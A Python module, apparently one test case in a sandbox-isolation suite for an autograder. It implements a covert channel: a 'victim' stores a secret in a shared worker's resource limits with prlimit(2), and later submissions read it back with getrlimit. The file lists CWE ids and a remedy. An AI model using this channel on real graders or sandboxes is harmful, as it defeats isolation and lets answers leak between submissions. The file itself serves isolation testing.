# SPDX-License-Identifier: MIT
"""limits-mailbox.py - two words of 64 bits that everybody inherits.

Goal: another student's work, or an answer passed on.
Means: prlimit(2) on the worker. RLIMIT_RSS and RLIMIT_LOCKS have had no effect since Linux 2.4, and
others have none as long as they are high. Yet each is two numbers of 64 bits, soft and hard, and a
process may set them in another one of the same user. Every student whom the worker starts
afterwards inherits them, and has only to ask for its own. One limit that nobody sets anew will do.
"""

import resource

from attack import DONE, attempting, denied, honest, loot

RLIMIT_LOCKS, RLIMIT_RTTIME = 10, 15
BOXES = (resource.RLIMIT_RSS, RLIMIT_LOCKS, RLIMIT_RTTIME, resource.RLIMIT_CORE,
         resource.RLIMIT_STACK, resource.RLIMIT_CPU, resource.RLIMIT_AS, resource.RLIMIT_DATA,
         resource.RLIMIT_FSIZE)


def run(brief):
    attempting()
    try:
        limits = [resource.getrlimit(box) for box in BOXES]
        full = [words for words in limits if resource.RLIM_INFINITY not in words]
    except (OSError, ValueError) as why:
        return denied("getrlimit", why)
    if not full:
        return denied("getrlimit", "the boxes are empty")
    for words in full:
        low, high = (f"{word & 2**64 - 1:016x}" for word in words)
        loot(f"{low}{high}\n{high}{low}\n")  # soft is the smaller one, whichever came first
    return DONE


def victim(brief):
    """The accomplice. Where the worker is out of reach, it keeps the word in a file."""
    low, high = sorted((int(brief.secret[:16], 16), int(brief.secret[16:], 16)))
    words = tuple(word - 2**64 if word >= 2**63 else word for word in (low, high))
    put = 0
    for box in BOXES:
        try:
            resource.prlimit(brief.worker, box, words)
            put += 1
        except (OSError, ValueError):
            pass  # a limit that is one already
    return DONE if put else honest(brief)


ATTACK = {
    "effect": "an answer is passed on to the next student",
    "means": "prlimit(2) on the worker: limits without a meaning, inherited by all who come after",
    "oracle": "secret:victim",
    "scene": "after-victim",
    "attack_id": "T1559, CWE-514, CWE-459",
    "remedy": "prlimit64 on oneself only; limits set anew for each student",
    "refs": ["getrlimit(2), RLIMIT_RSS and RLIMIT_LOCKS"],
    "run": run,
    "victim": victim,
}
